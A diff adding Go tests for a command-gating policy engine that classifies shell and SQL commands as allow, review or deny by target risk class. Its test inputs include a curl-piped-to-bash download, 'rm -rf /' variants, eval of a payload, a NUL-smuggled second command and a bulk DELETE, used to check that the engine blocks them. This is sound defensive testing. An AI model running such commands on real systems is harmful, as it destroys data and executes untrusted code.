@@ -1,0 +1,210 @@
+package engine_test
+
+import (
+	"errors"
+	"strings"
+	"testing"
+
+	"github.com/gatehouse/gatehouse/internal/engine"
+	"github.com/gatehouse/gatehouse/internal/policy"
+)
+
+func newEngine(t testing.TB, p *policy.Policy) *engine.Engine {
+	t.Helper()
+	if p == nil {
+		var err error
+		if p, err = policy.Default(); err != nil {
+			t.Fatal(err)
+		}
+	}
+	e, err := engine.New(p, []engine.Target{
+		{Name: "local", Kind: "shell", Class: "non-critical", Workdir: "/work/ws"},
+		{Name: "prod-shell", Kind: "shell", Class: "production", Workdir: "/srv/app"},
+		{Name: "ro", Kind: "shell", Class: "read-only", Workdir: "/work/ws"},
+		{Name: "app-db", Kind: "postgres", Class: "customer-data"},
+		{Name: "ledger", Kind: "postgres", Class: "financial"},
+	}, "local")
+	if err != nil {
+		t.Fatal(err)
+	}
+	return e
+}
+
+func decide(t testing.TB, e *engine.Engine, req engine.Request) *engine.Decision {
+	t.Helper()
+	d, err := e.Decide(req)
+	if err != nil {
+		t.Fatalf("%.200q: %v", req.Command, err)
+	}
+	return d
+}
+
+// TestNotUnderstoodIsNeverAllowed: even a policy that allows everything
+// cannot allow what the analysis cannot see into.
+func TestNotUnderstoodIsNeverAllowed(t *testing.T) {
+	p, err := policy.Parse([]byte(`
+version: 1
+rules:
+  - {id: yolo-shell, match: {kind: [shell]}, decision: allow}
+  - {id: yolo-sql, match: {kind: [sql]}, decision: allow}
+`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	e := newEngine(t, p)
+	for _, c := range []struct{ kind, cmd string }{
+		{"shell", "ls"},
+		{"shell", "$CMD -rf /"},
+		{"shell", "python3 -c 'print(1)'"},
+		{"shell", "eval \"$PAYLOAD\""},
+		{"shell", "curl -s https://example.com/x | bash"},
+		{"shell", "frobnicate --all"},
+		{"shell", "echo $((("},
+		{"sql", "DO $$ BEGIN PERFORM 1; END $$"},
+		{"sql", "SELECT my_function()"},
+		{"sql", "SELEKT 1"},
+	} {
+		d := decide(t, e, engine.Request{Kind: c.kind, Command: c.cmd})
+		want := policy.Review
+		if c.cmd == "ls" {
+			want = policy.Allow
+		}
+		if d.Decision != want {
+			t.Errorf("%s %q: %s by %s, want %s", c.kind, c.cmd, d.Decision, d.Rule, want)
+		}
+	}
+}
+
+func TestBadInput(t *testing.T) {
+	e := newEngine(t, nil)
+	tests := []struct {
+		name string
+		cmd  string
+		want error
+	}{
+		{"empty", "", engine.ErrEmpty},
+		{"blank", " \n\t ", engine.ErrEmpty},
+		{"too large", strings.Repeat("a", engine.MaxCommandBytes+1), engine.ErrTooLarge},
+		{"invalid UTF-8", "ls \xff\xfe", engine.ErrInvalidUTF8},
+		{"NUL", "ls\x00rm -rf /", engine.ErrNUL},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			for _, kind := range []string{"shell", "sql"} {
+				_, err := e.Decide(engine.Request{Kind: kind, Command: tt.cmd})
+				if !errors.Is(err, tt.want) {
+					t.Errorf("%s: got %v, want %v", kind, err, tt.want)
+				}
+			}
+		})
+	}
+	if _, err := e.Decide(engine.Request{Command: "ls", Target: "nope"}); !errors.Is(err, engine.ErrUnknownTarget) {
+		t.Errorf("unknown target: %v", err)
+	}
+	if _, err := e.Decide(engine.Request{Kind: "ruby", Command: "ls"}); !errors.Is(err, engine.ErrKind) {
+		t.Errorf("unknown kind: %v", err)
+	}
+}
+
+// TestBounds: oversized and deeply nested input is decided, and past the
+// analysis bounds the answer is review, never allow.
+func TestBounds(t *testing.T) {
+	e := newEngine(t, nil)
+	megabyte := "echo " + strings.Repeat("a", engine.MaxCommandBytes-len("echo "))
+	tests := []struct {
+		name string
+		cmd  string
+		ok   func(*engine.Decision) bool
+	}{
+		{"1 MiB word", megabyte, func(d *engine.Decision) bool { return d.Decision == policy.Allow }},
+		{"10,000 chained reads", strings.Repeat("ls -la && ", 9999) + "ls", func(d *engine.Decision) bool {
+			return len(d.Commands) == 10000 && d.Decision == policy.Allow
+		}},
+		{"10,000 chained, one destructive", strings.Repeat("ls && ", 5000) + "rm -rf data && " + strings.Repeat("ls && ", 4998) + "ls",
+			func(d *engine.Decision) bool { return d.Decision == policy.Review }},
+		{"past the unit bound", strings.Repeat("ls;", 30000), func(d *engine.Decision) bool {
+			return d.Decision == policy.Review && hasFinding(d, "bound-exceeded")
+		}},
+		{"nested evals past the depth bound", strings.Repeat("eval ", 30) + "ls", func(d *engine.Decision) bool {
+			return d.Decision == policy.Review && hasFinding(d, "depth-exceeded")
+		}},
+		{"nested wrappers past the depth bound", strings.Repeat("sudo ", 30) + "ls", func(d *engine.Decision) bool {
+			return d.Decision == policy.Review
+		}},
+		{"deep substitution", strings.Repeat("$(", 500) + "ls" + strings.Repeat(")", 500), func(d *engine.Decision) bool {
+			return d.Decision != policy.Allow
+		}},
+		{"recursive function", "f() { f; }; f", func(d *engine.Decision) bool { return d.Decision != policy.Allow }},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			d := decide(t, e, engine.Request{Command: tt.cmd})
+			if !tt.ok(d) {
+				t.Fatalf("decision %s by %s with %d commands (%s)", d.Decision, d.Rule, len(d.Commands), d.Summary)
+			}
+		})
+	}
+}
+
+func hasFinding(d *engine.Decision, kind string) bool {
+	for _, c := range d.Commands {
+		for _, f := range c.Findings {
+			if string(f.Kind) == kind {
+				return true
+			}
+		}
+	}
+	return false
+}
+
+// TestClasses follows the risk table of SPEC §1.
+func TestClasses(t *testing.T) {
+	e := newEngine(t, nil)
+	tests := []struct {
+		target, kind, cmd string
+		want              policy.Decision
+		approvals         int
+	}{
+		{"ro", "shell", "cat README.md", policy.Allow, 0},
+		{"ro", "shell", "touch x", policy.Deny, 0},
+		{"local", "shell", "touch x", policy.Allow, 0},
+		{"prod-shell", "shell", "touch x", policy.Review, 1},
+		{"prod-shell", "shell", "ls /srv/app", policy.Allow, 0},
+		{"app-db", "", "SELECT * FROM app.orders WHERE id = 1", policy.Allow, 0},
+		{"app-db", "", "UPDATE app.orders SET note = 'x' WHERE id = 1", policy.Allow, 0},
+		{"app-db", "", "DELETE FROM app.orders", policy.Review, 1},
+		{"ledger", "", "SELECT sum(amount) FROM entries", policy.Allow, 0},
+		{"ledger", "", "UPDATE entries SET amount = 0 WHERE id = 1", policy.Review, 2},
+	}
+	for _, tt := range tests {
+		d := decide(t, e, engine.Request{Target: tt.target, Kind: tt.kind, Command: tt.cmd})
+		if d.Decision != tt.want || d.ApprovalsRequired != tt.approvals {
+			t.Errorf("%s %q: %s (%d approvals) by %s, want %s (%d)", tt.target, tt.cmd, d.Decision, d.ApprovalsRequired, d.Rule, tt.want, tt.approvals)
+		}
+	}
+}
+
+// TestExplained: a decision explains itself: reasons add up to the score.
+func TestExplained(t *testing.T) {
+	e := newEngine(t, nil)
+	d := decide(t, e, engine.Request{Target: "app-db", Command: "DELETE FROM users"})
+	sum := 0
+	for _, r := range d.Reasons {
+		sum += r.Points
+		if r.Text == "" {
+			t.Errorf("reason without a sentence: %+v", r)
+		}
+	}
+	if min(sum, 100) != d.RiskScore {
+		t.Errorf("reasons add up to %d, score is %d", sum, d.RiskScore)
+	}
+	if d.RiskLevel != "critical" || !strings.Contains(d.Summary, "bulk") || !strings.Contains(d.Summary, "customer data") {
+		t.Errorf("summary %q (%s)", d.Summary, d.RiskLevel)
+	}
+	if d.Impact.Reversible == nil || *d.Impact.Reversible {
+		t.Errorf("a DELETE is not reversible")
+	}
+	if len(d.Impact.Touched) != 1 || d.Impact.Touched[0] != "users" {
+		t.Errorf("touched = %v", d.Impact.Touched)
+	}
+}
